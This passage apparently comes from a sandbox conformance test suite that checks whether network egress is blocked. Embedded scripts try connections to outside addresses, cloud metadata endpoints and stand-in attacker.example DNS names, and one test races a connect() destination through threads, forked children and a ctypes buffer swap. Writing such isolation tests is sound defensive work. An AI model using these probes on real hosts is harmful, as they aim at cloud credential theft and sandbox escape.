  await tcp('tcp ::ffff:10.0.0.1 443', { host: '::ffff:10.0.0.1', port: 443 });
  await udp('udp 8.8.8.8 53', 'udp4', 53, '8.8.8.8');
  await udp('udp 2001:4860:4860::8888 53', 'udp6', 53, '2001:4860:4860::8888');
  await get('tcp 169.254.169.254 8080', 'http://169.254.169.254:8080/latest/meta-data/');
  await lookup('dns node-lookup.attacker.example', () => dns.promises.lookup('node-lookup.attacker.example'));
  await lookup('dns node-resolve.attacker.example', () => dns.promises.resolve4('node-resolve.attacker.example'));
  await get('dns metadata.google.internal', 'http://metadata.google.internal/computeMetadata/v1/');
  // The host's loopback and unix sockets: the run's own loopback, nothing of the host.
  await tcp('local tcp 127.0.0.1', { host: '127.0.0.1', port: TCP4 });
  if (IPV6) await tcp('local tcp ::1', { host: '::1', port: TCP6 });
  await udp('local udp 127.0.0.1', 'udp4', UDP4, '127.0.0.1');
  await tcp('local unix ' + TMP_STREAM, { path: TMP_STREAM });
  await tcp('local unix ' + STATE_STREAM, { path: STATE_STREAM });
  await tcp('local abstract', { path: '\0' + ABSTRACT_STREAM });
  console.log(JSON.stringify(out));
})();
)JS"));
  INFO("attempts recorded:\n" << list_attempts(r));
  CHECK(r.code == code::network_disabled);
  REQUIRE(r.exit_code == 0);
  auto j = json::parse(b.blob(r.std_out.blob));
  INFO("inside: " << j.dump());
  CHECK(j.size() >= 15);
  for (auto& [label, result] : j.items()) {
    INFO(label << " -> " << result);
    const auto v = result.get<std::string>();
    if (label != "local udp 127.0.0.1") CHECK(v != "OK");
    CHECK(v.rfind("OK ", 0) != 0);
    CHECK(v.rfind("RESOLVED", 0) != 0);
    std::istringstream in(label);
    std::string proto, addr;
    int port = 0;
    in >> proto >> addr >> port;
    if ((proto == "tcp" || proto == "udp") && must_record_ip(b))
      CHECK(has_attempt(r, proto, addr, static_cast<std::uint16_t>(port)));
    if (proto == "dns") CHECK(has_dns(r, addr));
  }
  for (const auto& a : r.egress_attempts) CHECK_FALSE(a.allowed);
  CHECK(canaries.arrivals() == "");
}

TEST_CASE(
    "exfiltration: children, threads and a burst of distinct destinations are all "
    "refused; the record is capped and counted",
    "[exfil][heavy]") {
  CONFORMANCE_BACKEND(b);
  host_canaries canaries;
  REQUIRE(canaries.ready());
  auto r = b.run(py(canaries.python_prelude() + py_attempt + R"PY(
import threading, subprocess, sys
def worker(base):
    for i in range(25):
        attempt(f'tcp 10.{base}.0.{i + 1} 80', tcp(socket.AF_INET, (f'10.{base}.0.{i + 1}', 80)))
threads = [threading.Thread(target=worker, args=(n,)) for n in range(4)]
for t in threads: t.start()
for t in threads: t.join()
# A child process and a double-forked grandchild try too.
child = subprocess.run([sys.executable, '-c', '''
import socket, os
if os.fork() == 0:
    try: socket.create_connection(("203.0.113.7", 443), timeout=2)
    except OSError as e: print("grandchild", e.errno, flush=True)
    os._exit(0)
os.wait()
try: socket.create_connection(("198.51.100.7", 443), timeout=2)
except OSError as e: print("child", e.errno)
'''], capture_output=True, text=True)
RESULTS['children'] = child.stdout
print(json.dumps(RESULTS))
)PY",
                    std::chrono::milliseconds(8000)));
  CHECK(r.code == code::network_disabled);
  REQUIRE(r.exit_code == 0);
  auto j = json::parse(b.blob(r.std_out.blob));
  for (auto& [label, result] : j.items()) {
    if (label != "children") CHECK(result != "OK");
  }
  const std::string children = j["children"];
  CHECK(children.find("grandchild") != std::string::npos);
  CHECK(children.find("child") != std::string::npos);
  // 102 distinct destinations: 64 listed, the rest counted, none allowed.
  CHECK(r.egress_attempts.size() == 64);
  CHECK(r.egress_attempts.size() + r.egress_attempts_dropped >= 102);
  for (const auto& a : r.egress_attempts) CHECK_FALSE(a.allowed);
  CHECK(canaries.arrivals() == "");
}

TEST_CASE("exfiltration: rewriting the destination while connect runs opens no route",
          "[exfil][heavy]") {
  CONFORMANCE_BACKEND(b);
  host_canaries canaries;
  REQUIRE(canaries.ready());
  // The host reads a connect's destination after the call is notified; a second thread
  // flips it between a loopback listener of the run and an outside address. Whatever the
  // record says, no connection may reach anything but the run's own loopback.
  auto r = b.run(py(canaries.python_prelude() + R"PY(
import ctypes, socket, struct, threading, json, errno
libc = ctypes.CDLL(None, use_errno=True)
srv = socket.socket(); srv.bind(('127.0.0.1', 0)); srv.listen(512)
port = srv.getsockname()[1]
local = struct.pack('<HH4s8x', socket.AF_INET, socket.htons(port), socket.inet_aton('127.0.0.1'))
outside = struct.pack('<HH4s8x', socket.AF_INET, socket.htons(80), socket.inet_aton('1.1.1.1'))
buf = ctypes.create_string_buffer(local, 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, outside, 16)
        ctypes.memmove(buf, local, 16)
t = threading.Thread(target=flip); t.start()
peers, errs = set(), {}
for i in range(300):
    s = socket.socket()
    rc = libc.connect(s.fileno(), buf, 16)
    if rc == 0:
        peers.add(s.getpeername()[0])
    else:
        e = errno.errorcode.get(ctypes.get_errno(), '?'); errs[e] = errs.get(e, 0) + 1
    s.close()
stop = True; t.join()
print(json.dumps({'peers': sorted(peers), 'errors': errs}))
)PY",
                    std::chrono::milliseconds(8000)));
  REQUIRE(r.exit_code == 0);
  auto j = json::parse(b.blob(r.std_out.blob));
  INFO(j.dump());
  for (const auto& p : j["peers"]) CHECK(p == "127.0.0.1");
  CHECK((r.code == code::ok || r.code == code::network_disabled));
  for (const auto& a : r.egress_attempts) CHECK_FALSE(a.allowed);
  CHECK(canaries.arrivals() == "");
}
